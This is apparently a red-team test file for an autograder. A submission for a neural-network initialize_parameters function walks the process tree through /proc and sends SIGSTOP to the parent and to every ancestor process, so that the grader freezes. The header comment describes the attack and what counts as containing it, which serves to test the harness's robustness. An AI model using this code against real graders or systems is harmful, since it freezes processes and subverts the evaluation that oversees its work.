# RED-TEAM ATTACK (issue 9): freeze the grader.
# Route: posix.kill with SIGSTOP on the parent and every ancestor: a stopped fork server or batch
#   never answers, and a grader that waits on it without a deadline waits for ever.
# Contained when: grading finishes, initialize_parameters scores 0, the rest of this submission
#   (correct) and the next submission are graded exactly as without the attack.
# attacked: initialize_parameters
# run: late
import os
import sys

def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids or [os.getppid()]


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    stopped = []
    for pid in _ancestors():
        try:
            posix.kill(pid, 19)
            stopped.append(pid)
        except OSError:
            pass
    raise RuntimeError("stopped %s" % stopped)


# __HONEST_REST__
